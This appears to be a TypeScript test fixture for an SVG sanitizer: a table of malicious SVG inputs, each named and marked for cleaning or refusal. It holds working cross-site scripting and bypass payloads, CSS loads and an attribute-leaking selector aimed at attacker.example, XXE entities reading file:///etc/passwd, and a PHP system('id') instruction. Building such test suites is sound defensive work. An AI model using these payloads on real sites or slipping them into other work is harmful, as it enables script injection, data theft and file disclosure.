/**
 * SVGs that run a script, load something or point outside themselves in one viewer or another. The scripts call
 * `alert`; the addresses are of `attacker.example`. One table, which is why the file is long: whoever looks for a
 * vector should find it in one place.
 */
export interface Attack {
  readonly name: string;
  readonly svg: string | Uint8Array;
  /** It may be refused instead of being cleaned. */
  readonly refused?: true;
}

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const HOST = "http://attacker.example";
const PIXEL =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

function inside(content: string): string {
  return `<svg ${NAMESPACES} width="100" height="100">${content}<rect id="r" width="90" height="90"/></svg>`;
}
function utf16(text: string, littleEndian: boolean): Uint8Array {
  const bytes = new Uint8Array(2 + text.length * 2);
  const view = new DataView(bytes.buffer);
  view.setUint16(0, 0xfeff, littleEndian);
  for (let at = 0; at < text.length; at++) view.setUint16(2 + at * 2, text.charCodeAt(at), littleEndian);
  return bytes;
}
function base64(text: string): string {
  return btoa(text);
}

const style = (css: string) => inside(`<style>${css}</style>`);
const SCRIPT_SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`;

export const ATTACKS: readonly Attack[] = [
  // Scripts
  { name: "a script element", svg: inside("<script>alert(1)</script>") },
  { name: "a script in CDATA", svg: inside("<script><![CDATA[alert(1)]]></script>") },
  { name: "a script of another type", svg: inside('<script type="module">alert(1)</script>') },
  { name: "a script from elsewhere", svg: inside(`<script href="${HOST}/x.js"/>`) },
  { name: "a script from elsewhere by xlink", svg: inside(`<script xlink:href="${HOST}/x.js"/>`) },
  { name: "a script in a data URL", svg: inside('<script href="data:text/javascript,alert(1)"/>') },
  {
    name: "a script under a prefix of its own",
    svg: inside('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  },
  {
    name: "a script in the namespace of XHTML",
    svg: inside('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  },
  {
    name: "a script below an element that is dropped",
    svg: inside('<x xmlns="urn:x"><g xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></g></x>'),
  },
  { name: "a script in defs", svg: inside("<defs><script>alert(1)</script></defs>") },
  { name: "a script in a title", svg: inside("<title><script>alert(1)</script></title>") },
  { name: "a script in a style sheet", svg: inside("<style>a{}<script>alert(1)</script></style>") },
  { name: "a script in capital letters", svg: inside("<SCRIPT>alert(1)</SCRIPT>") },
  {
    name: "a script with its name split by an entity",
    svg: inside("<scr&#105;pt>alert(1)</scr&#105;pt>"),
    refused: true,
  },
  {
    name: "a prefixed root with a script",
    svg: `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
  },
  {
    name: "SVG Tiny handlers",
    svg: inside(
      '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="application/ecmascript">alert(1)</handler>',
    ),
  },
  {
    name: "XML Events listeners",
    svg: inside(
      '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="javascript:alert(1)"/>',
    ),
  },

  // Event handlers
  { name: "onload on the root", svg: `<svg ${NAMESPACES} onload="alert(1)"/>` },
  { name: "onload in mixed case", svg: `<svg ${NAMESPACES} onLoad="alert(1)" ONLOAD="alert(2)"/>` },
  { name: "onclick on a shape", svg: inside('<rect width="9" height="9" onclick="alert(1)"/>') },
  { name: "onerror on an image", svg: inside('<image href="x" onerror="alert(1)"/>') },
  {
    name: "onbegin of an animation",
    svg: inside('<animate attributeName="x" dur="1s" onbegin="alert(1)"/>'),
  },
  {
    name: "onend and onrepeat of an animation",
    svg: inside('<set attributeName="x" to="1" dur="10ms" onend="alert(1)" onrepeat="alert(1)"/>'),
  },
  {
    name: "onfocus with autofocus",
    svg: inside('<a tabindex="0" autofocus="" onfocus="alert(1)"><text>x</text></a>'),
  },
  {
    name: "a handler in the namespace of SVG",
    svg: inside('<g s:onload="alert(1)" xmlns:s="http://www.w3.org/2000/svg"/>'),
  },
  {
    name: "a handler in a foreign namespace",
    svg: inside('<e:g xmlns:e="urn:e" onclick="alert(1)" e:onload="alert(1)"/>'),
  },
  { name: "a handler written with character references", svg: inside('<g onmouseover="&#97;lert(1)"/>') },
  { name: "a handler after a line break", svg: inside('<rect width="9"\n\tonpointerover\n=\n"alert(1)"/>') },
  {
    name: "a handler with a name that is not ASCII",
    svg: inside('<g o\u006eload="alert(1)" ｏnload="alert(2)"/>'),
  },

  // Links
  { name: "a javascript link", svg: inside('<a href="javascript:alert(1)"><text y="9">x</text></a>') },
  {
    name: "a javascript link by xlink",
    svg: inside('<a xlink:href="javascript:alert(1)"><text y="9">x</text></a>'),
  },
  {
    name: "a javascript link under a prefix of its own",
    svg: inside('<a x:href="javascript:alert(1)" xmlns:x="http://www.w3.org/1999/xlink"><text>x</text></a>'),
  },
  {
    name: "a javascript link in mixed case",
    svg: inside('<a href="JaVaScRiPt:alert(1)"><text>x</text></a>'),
  },
  {
    name: "a javascript link with a tab inside",
    svg: inside('<a href="java&#9;script:alert(1)"><text>x</text></a>'),
  },
  {
    name: "a javascript link with a line feed inside",
    svg: inside('<a href="java&#10;script&#13;:alert(1)"><text>x</text></a>'),
  },
  {
    name: "a javascript link after spaces",
    svg: inside('<a href="&#32;&#9; javascript:alert(1)"><text>x</text></a>'),
  },
  {
    name: "a javascript link of character references",
    svg: inside(
      '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)"><text>x</text></a>',
    ),
  },
  {
    name: "a javascript link that looks like a fragment",
    svg: inside('<a href="#a&#10;javascript:alert(1)"><text>x</text></a>'),
  },
  { name: "a vbscript link", svg: inside('<a href="vbscript:alert(1)"><text>x</text></a>') },
  {
    name: "a link to a data document",
    svg: inside('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>'),
  },
  {
    name: "a link elsewhere that sends pings",
    svg: inside(`<a href="${HOST}/" ping="${HOST}/ping" target="_top" download="x.html"><text>x</text></a>`),
  },
  {
    name: "a link to the dashboard on the same origin",
    svg: inside('<a href="/dashboard"><text>x</text></a>'),
  },
  {
    name: "a link with a base elsewhere",
    svg: `<svg ${NAMESPACES} xml:base="${HOST}/"><a href="x"><text>x</text></a><use href="#a"/><image href="y.png"/></svg>`,
  },
  {
    name: "a javascript base",
    svg: `<svg ${NAMESPACES} xml:base="javascript:alert(1)//"><a href="#"><text>x</text></a></svg>`,
  },

  // Animations
  {
    name: "set that makes a javascript link",
    svg: inside('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
  },
  {
    name: "set that makes a javascript link by xlink",
    svg: inside('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a>'),
  },
  {
    name: "animate that makes a javascript link",
    svg: inside(
      '<a><animate attributeName="href" values="javascript:alert(1);x" dur="1s"/><text>x</text></a>',
    ),
  },
  {
    name: "animate with spaces around the name",
    svg: inside('<a><animate attributeName=" href " from="javascript:alert(1)" to="x"/><text>x</text></a>'),
  },
  {
    name: "animate of a link from outside it",
    svg: inside(
      '<a id="l"><text>x</text></a><animate href="#l" attributeName="href" to="javascript:alert(1)"/>',
    ),
  },
  { name: "set of a handler", svg: inside('<set attributeName="onmouseover" to="alert(1)"/>') },
  {
    name: "set of a style",
    svg: inside(`<rect width="9" height="9"><set attributeName="style" to="fill:url(${HOST}/p#p)"/></rect>`),
  },
  {
    name: "set of a paint elsewhere",
    svg: inside(`<rect width="9" height="9"><set attributeName="fill" to="url(${HOST}/p.svg#p)"/></rect>`),
  },
  {
    name: "animate between filters elsewhere",
    svg: inside(
      `<rect width="9" height="9"><animate attributeName="filter" dur="1s" values="none;url(${HOST}/f.svg#f)"/></rect>`,
    ),
  },
  {
    name: "animate values that hide a URL in a string",
    svg: inside(
      `<rect width="9" height="9"><animate attributeName="mask" dur="1s" values='";url(${HOST}/m.svg#m);"'/></rect>`,
    ),
  },
  {
    name: "animate of an image",
    svg: inside(
      `<image width="9" height="9"><animate attributeName="href" dur="1s" values="${HOST}/1.png;${HOST}/2.png"/></image>`,
    ),
  },

  // Other content
  {
    name: "HTML in foreignObject",
    svg: inside(
      '<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
    ),
  },
  {
    name: "an iframe in foreignObject",
    svg: inside(
      `<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>`,
    ),
  },
  { name: "an iframe in the namespace of SVG", svg: inside(`<iframe src="${HOST}/"/>`) },
  {
    name: "an XHTML image without foreignObject",
    svg: inside('<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>'),
  },
  {
    name: "an XHTML form",
    svg: inside(
      `<f:form xmlns:f="http://www.w3.org/1999/xhtml" action="${HOST}/"><f:input name="password"/></f:form>`,
    ),
  },
  {
    name: "an XHTML refresh",
    svg: inside(
      '<m:meta xmlns:m="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=javascript:alert(1)"/>',
    ),
  },
  {
    name: "an XHTML style sheet link",
    svg: inside(`<l:link xmlns:l="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${HOST}/x.css"/>`),
  },
  {
    name: "an XHTML base",
    svg: inside(`<b:base xmlns:b="http://www.w3.org/1999/xhtml" href="${HOST}/"/><use href="#r"/>`),
  },
  {
    name: "audio and video",
    svg: inside(
      `<audio xmlns="http://www.w3.org/1999/xhtml" src="${HOST}/a.mp3" autoplay=""/><video href="${HOST}/v.mp4"/>`,
    ),
  },
  {
    name: "an embedded object",
    svg: inside(
      `<o:object xmlns:o="http://www.w3.org/1999/xhtml" data="${HOST}/o.svg"/><o:embed xmlns:o="http://www.w3.org/1999/xhtml" src="${HOST}/e.svg"/>`,
    ),
  },
  {
    name: "markup for an HTML parser in a title",
    svg: inside("<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>"),
  },
  {
    name: "markup for an HTML parser in CDATA",
    svg: inside("<text><![CDATA[</text><script>alert(1)</script>]]></text>"),
  },
  {
    name: "markup for an HTML parser in a style sheet",
    svg: style('<![CDATA[ a{b:"</style><img src=x onerror=alert(1)>"} ]]>'),
  },
  {
    name: "markup for an HTML parser in an attribute",
    svg: inside('<g id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  },
  {
    name: "MathML",
    svg: inside(
      '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    ),
  },
  {
    name: "an XSLT style sheet element",
    svg: inside(
      '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><script xmlns="http://www.w3.org/2000/svg">alert(1)</script></xsl:template></xsl:stylesheet>',
    ),
  },

  // Resources elsewhere
  { name: "an image elsewhere", svg: inside(`<image href="${HOST}/i.png" width="9" height="9"/>`) },
  {
    name: "an image elsewhere by xlink",
    svg: inside(`<image xlink:href="${HOST}/i.png" width="9" height="9"/>`),
  },
  {
    name: "an image without a scheme",
    svg: inside('<image href="//attacker.example/i.png" width="9" height="9"/>'),
  },
  {
    name: "an image behind backslashes",
    svg: inside('<image href="\\\\attacker.example\\i.png" width="9" height="9"/>'),
  },
  { name: "an image from the disk", svg: inside('<image href="file:///etc/passwd" width="9" height="9"/>') },
  {
    name: "an image on the same origin",
    svg: inside('<image href="/client/v4/user" width="9" height="9"/>'),
  },
  { name: "an image that is this document", svg: inside('<image href="#r" width="9" height="9"/>') },
  { name: "a document drawn by use", svg: inside(`<use href="${HOST}/s.svg#x"/>`) },
  {
    name: "a data document drawn by use",
    svg: inside(`<use href="data:image/svg+xml;base64,${base64(SCRIPT_SVG)}#x"/>`),
  },
  {
    name: "an SVG image in a data URL",
    svg: inside(`<image href="data:image/svg+xml;base64,${base64(SCRIPT_SVG)}" width="9" height="9"/>`),
  },
  {
    name: "an SVG image in a data URL of mixed case",
    svg: inside(
      `<image href="DATA:Image/SVG+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='alert(1)'/%3E" width="9" height="9"/>`,
    ),
  },
  {
    name: "an HTML document in a data URL",
    svg: inside(
      `<image href="data:text/html;base64,${base64("<script>alert(1)</script>")}" width="9" height="9"/>`,
    ),
  },
  {
    name: "a data URL with two types",
    svg: inside(
      `<image href="data:image/png,image/svg+xml;base64,${base64(SCRIPT_SVG)}" width="9" height="9"/>`,
    ),
  },
  {
    name: "a data URL of a PNG with something after it",
    svg: inside(`<image href="data:image/png;base64,${PIXEL}#javascript:alert(1)" width="9" height="9"/>`),
  },
  {
    name: "a picture URL on a link",
    svg: inside(`<a href="data:image/png;base64,${PIXEL}"><text>x</text></a>`),
  },
  {
    name: "feImage elsewhere",
    svg: inside(
      `<filter id="f"><feImage href="${HOST}/f.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
    ),
  },
  { name: "a gradient elsewhere", svg: inside(`<linearGradient id="g" href="${HOST}/g.svg#g"/>`) },
  {
    name: "a text path elsewhere",
    svg: inside(
      `<text><textPath href="${HOST}/t.svg#t">x</textPath></text><tref xlink:href="${HOST}/t.svg#t"/>`,
    ),
  },
  {
    name: "a motion path elsewhere",
    svg: inside(`<animateMotion dur="1s"><mpath href="${HOST}/m.svg#m"/></animateMotion>`),
  },
  {
    name: "a cursor element",
    svg: inside(`<cursor id="c" href="${HOST}/c.png"/><rect cursor="url(#c)" width="9" height="9"/>`),
  },
  {
    name: "a font elsewhere",
    svg: inside(
      `<font-face font-family="x"><font-face-src><font-face-uri href="${HOST}/x.svg#f"/></font-face-src></font-face>`,
    ),
  },
  { name: "a colour profile elsewhere", svg: inside(`<color-profile name="p" xlink:href="${HOST}/p.icc"/>`) },

  // Presentation attributes
  {
    name: "paint elsewhere",
    svg: inside(`<rect fill="url(${HOST}/p.svg#p)" stroke="url('${HOST}/p.svg#p')" width="9" height="9"/>`),
  },
  {
    name: "paint elsewhere with a fallback",
    svg: inside(`<rect fill='url("${HOST}/p.svg#p") red' width="9" height="9"/>`),
  },
  {
    name: "a filter, a mask and a clip path elsewhere",
    svg: inside(
      `<rect filter="url(${HOST}/a#a)" mask="url(${HOST}/b#b)" clip-path="url(${HOST}/c#c)" width="9" height="9"/>`,
    ),
  },
  {
    name: "markers elsewhere",
    svg: inside(
      `<path d="M0 0h9v9" marker-mid="url(${HOST}/m#m)" marker-end="url(//attacker.example/m#m)"/>`,
    ),
  },
  {
    name: "a cursor elsewhere",
    svg: inside(`<rect cursor="url(${HOST}/c.cur), auto" width="9" height="9"/>`),
  },
  {
    name: "an escaped url function",
    svg: inside(`<rect fill="\\75rl(${HOST}/p.svg#p)" width="9" height="9"/>`),
  },
  {
    name: "an escaped url function with spaces",
    svg: inside(`<rect filter="u\\000072 l(${HOST}/p.svg#p)" width="9" height="9"/>`),
  },
  {
    name: "a url function in capital letters",
    svg: inside(`<rect mask="URL(${HOST}/p.svg#p)" width="9" height="9"/>`),
  },
  {
    name: "a fragment that a line break ends",
    svg: inside(`<rect fill="url('#a&#10;${HOST}/p')" width="9" height="9"/>`),
  },
  {
    name: "the second of two filters elsewhere",
    svg: inside(`<rect filter="url(#f) url(${HOST}/f#f)" width="9" height="9"/>`),
  },

  // Style attributes
  {
    name: "a style with paint elsewhere",
    svg: inside(`<rect style="fill:url(${HOST}/p#p);stroke:red" width="9" height="9"/>`),
  },
  { name: "a style with a background", svg: `<svg ${NAMESPACES} style="background:url(${HOST}/b.png)"/>` },
  {
    name: "a style with an image set",
    svg: `<svg ${NAMESPACES} style="background:image-set('${HOST}/b.png' 1x);list-style:-webkit-image-set(url(${HOST}/b.png) 1x)"/>`,
  },
  { name: "a style with src()", svg: `<svg ${NAMESPACES} style="background:src('${HOST}/b.png')"/>` },
  {
    name: "a style with a URL in a variable",
    svg: `<svg ${NAMESPACES} style="--a:url(${HOST}/b.png);--b:'${HOST}/c.png';background:var(--a),image-set(var(--b) 1x)"/>`,
  },
  {
    name: "a style with expression()",
    svg: inside('<rect style="width:expression(alert(1))" width="9" height="9"/>'),
  },
  {
    name: "a style with a behaviour and a binding",
    svg: inside(
      `<rect style="behavior:url(${HOST}/x.htc);-moz-binding:url(${HOST}/x.xml#x);BEHAVIOR:x" width="9" height="9"/>`,
    ),
  },
  {
    name: "a style with an escaped property",
    svg: inside(`<rect style="-m\\6fz-binding:url(#x);fi\\6c l:u\\72l(${HOST}/p#p)" width="9" height="9"/>`),
  },
  {
    name: "a style with a URL behind a comment",
    svg: inside(`<rect style="fill:/*;*/url(/**/${HOST}/p#p)" width="9" height="9"/>`),
  },
  {
    name: "a style with an unterminated string",
    svg: inside(`<rect style="font-family:'x;fill:url(${HOST}/p#p)" width="9" height="9"/>`),
  },
  {
    name: "a style with a string that an escape keeps open",
    svg: inside(`<rect style="font-family:'\\';fill:url(${HOST}/p#p);x:'" width="9" height="9"/>`),
  },
  {
    name: "a style with a line break in a string",
    svg: inside(`<rect style="font-family:'&#10;;fill:url(${HOST}/p#p);x:'" width="9" height="9"/>`),
  },

  // Style sheets
  { name: "an import", svg: style(`@import "${HOST}/x.css";`) },
  { name: "an import of a URL", svg: style(`@import url(${HOST}/x.css);`) },
  { name: "an import in mixed case", svg: style(`@ImPoRt '${HOST}/x.css' screen;`) },
  { name: "an escaped import", svg: style(`@\\69mport "${HOST}/x.css";`) },
  { name: "an escaped import with zeros", svg: style(`@\\000049 \\00004d port "${HOST}/x.css";`) },
  { name: "an import split by an XML comment", svg: style(`@im<!-- -->port "${HOST}/x.css";`) },
  { name: "an import split by CDATA", svg: style(`@im<![CDATA[port "${HOST}/x.css";]]>`) },
  { name: "an import of character references", svg: style(`&#64;import "${HOST}/x.css";`) },
  {
    name: "an import behind a comment that ends early",
    svg: style(`/* /* */ @import "${HOST}/x.css"; /* */`),
  },
  { name: "an import behind a charset", svg: style(`@charset "utf-8"; @import "${HOST}/x.css";`) },
  { name: "an import behind the end of a comment of HTML", svg: style(`--&gt; @import "${HOST}/x.css";`) },
  { name: "an import in a layer", svg: style(`@layer a; @import url("${HOST}/x.css") layer(a);`) },
  {
    name: "a font face",
    svg: style(`@font-face{font-family:x;src:url(${HOST}/f.woff2)} text{font-family:x}`),
  },
  {
    name: "a font face in a media rule",
    svg: style(`@media all{@font-face{font-family:x;src:local(x),url(${HOST}/f.woff2)}}`),
  },
  { name: "a namespace", svg: style(`@namespace url(${HOST}/ns);`) },
  { name: "a document rule", svg: style(`@-moz-document url-prefix(${HOST}){rect{fill:red}}`) },
  { name: "a counter style", svg: style(`@counter-style x{system:cyclic;symbols:url(${HOST}/x.png)}`) },
  { name: "a filter in a rule", svg: style(`rect{fill:red;filter:url(${HOST}/f#f)}`) },
  {
    name: "a URL in a nested rule",
    svg: style(`svg{&amp; rect{fill:url(${HOST}/f#f)} rect{mask:url(${HOST}/f#f)}}`),
  },
  {
    name: "a URL in a custom property with braces",
    svg: style(`svg{--x:{background:url(${HOST}/f)};background:var(--x)}`),
  },
  { name: "a URL that a bad URL hides", svg: style(`rect{x:url(a"b;fill:url(${HOST}/f#f)}`) },
  {
    name: "a URL that an unterminated comment hides",
    svg: style(`rect{fill:red}/* rect{fill:url(${HOST}/f#f)}`),
  },
  { name: "a URL in keyframes", svg: style(`@keyframes k{to{mask:url(${HOST}/m#m)}} rect{animation:k 1s}`) },
  {
    name: "cross-fade and element images",
    svg: style(
      `svg{background:cross-fade(url(${HOST}/a),url(${HOST}/b));list-style:image("${HOST}/c.png");mask:-moz-element(#x)}`,
    ),
  },
  { name: "secrets read by selectors", svg: style(`a[id^="a"]{background:url(${HOST}/?a)}`) },
  {
    name: "two style sheets that make one rule",
    svg: inside(`<style>@import/*</style><style>*/"${HOST}/x.css";</style>`),
  },

  // The document around it
  {
    name: "an XML style sheet instruction",
    svg: `<?xml version="1.0"?><?xml-stylesheet href="${HOST}/x.css" type="text/css"?>${inside("")}`,
  },
  {
    name: "an XSLT style sheet instruction",
    svg: `<?xml version="1.0"?><?xml-stylesheet href="data:text/xml,x" type="text/xsl"?>${inside("")}`,
  },
  { name: "an instruction inside the root", svg: inside('<?php system("id"); ?>') },
  {
    name: "a DOCTYPE that gives attributes",
    svg: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${inside("")}`,
  },
  { name: "a DOCTYPE elsewhere", svg: `<!DOCTYPE svg SYSTEM "${HOST}/x.dtd">${inside("")}` },
  {
    name: "an entity that holds a handler's script",
    svg: `<!DOCTYPE svg [<!ENTITY x "alert(1)">]><svg ${NAMESPACES} onload="&x;"/>`,
  },
  {
    name: "an entity that holds a javascript URL",
    svg: `<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]>${inside('<a href="&x;"><text>x</text></a>')}`,
  },
  {
    name: "an entity that holds an escaped script",
    svg: `<!DOCTYPE svg [<!ENTITY x "&lt;script>alert(1)&lt;/script>">]>${inside("<text>&x;</text>")}`,
  },
  {
    name: "an entity that holds a namespace",
    svg: `<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/2000/svg">]><svg xmlns="&n;"><x:script xmlns:x="&n;">alert(1)</x:script></svg>`,
  },
  {
    name: "an entity that holds markup",
    svg: `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${inside("&x;")}`,
    refused: true,
  },
  {
    name: "an entity that holds markup as references",
    svg: `<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>${inside("&x;")}`,
    refused: true,
  },
  {
    name: "an external entity",
    svg: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside("<text>&x;</text>")}`,
    refused: true,
  },
  {
    name: "an external entity by public name",
    svg: `<!DOCTYPE svg [<!ENTITY x PUBLIC "a" "${HOST}/x">]>${inside("<text>&x;</text>")}`,
    refused: true,
  },
  {
    name: "an unparsed entity",
    svg: `<!DOCTYPE svg [<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "${HOST}/x" NDATA n>]>${inside("")}`,
    refused: true,
  },
  {
    name: "a parameter entity",
    svg: `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${HOST}/x.dtd"> %p;]>${inside("")}`,
    refused: true,
  },
  {
    name: "an inner parameter entity",
    svg: `<!DOCTYPE svg [<!ENTITY % p "&#60;!ENTITY x 'y'>"> %p;]>${inside("<text>&x;</text>")}`,
    refused: true,
  },
  {
    name: "XInclude",
    svg: inside(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
  },

  // Encodings and characters
  { name: "UTF-16, little endian", svg: utf16(inside("<script>alert(1)</script>"), true) },
  {
    name: "UTF-16, big endian",
    svg: utf16(inside('<a href="javascript:alert(1)"><text>x</text></a>'), false),
  },
  { name: "what looks like UTF-7", svg: inside("<text>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</text>") },
  {
    name: "declared UTF-7",
    svg: `<?xml version="1.0" encoding="UTF-7"?>${inside("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")}`,
    refused: true,
  },
  {
    name: "an encoding in which brackets hide",
    svg: `<?xml version="1.0" encoding="ISO-2022-JP"?>${inside("\u001b$B<script>alert(1)</script>\u001b(B")}`,
    refused: true,
  },
  {
    name: "overlong UTF-8",
    svg: new Uint8Array([
      ...new TextEncoder().encode(`<svg ${NAMESPACES}>`),
      0xc0,
      0xbc,
      0x73,
      0x3e,
      ...new TextEncoder().encode("</svg>"),
    ]),
    refused: true,
  },
  { name: "NUL bytes in a name", svg: inside("<scr\0ipt>alert(1)</scr\0ipt>"), refused: true },
  {
    name: "NUL bytes in a URL",
    svg: inside('<a href="java\0script:alert(1)"><text>x</text></a>'),
    refused: true,
  },
  {
    name: "a control character by reference",
    svg: `<?xml version="1.1"?>${inside('<a href="&#1;javascript:alert(1)"><text>x</text></a>')}`,
    refused: true,
  },
  {
    name: "an attribute twice",
    svg: inside('<a href="#r" href="javascript:alert(1)"><text>x</text></a>'),
    refused: true,
  },
  { name: "an attribute without quotes", svg: inside("<rect width=9 onload=alert(1) />"), refused: true },
  { name: "a tag without an end", svg: `<svg ${NAMESPACES}><script>alert(1)`, refused: true },
  {
    name: "a second root",
    svg: `${inside("")}<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
    refused: true,
  },
  {
    name: "an HTML document",
    svg: '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    refused: true,
  },
  {
    name: "an HTML document with an SVG inside",
    svg: `<html xmlns="http://www.w3.org/1999/xhtml">${inside("<script>alert(1)</script>")}</html>`,
    refused: true,
  },
];
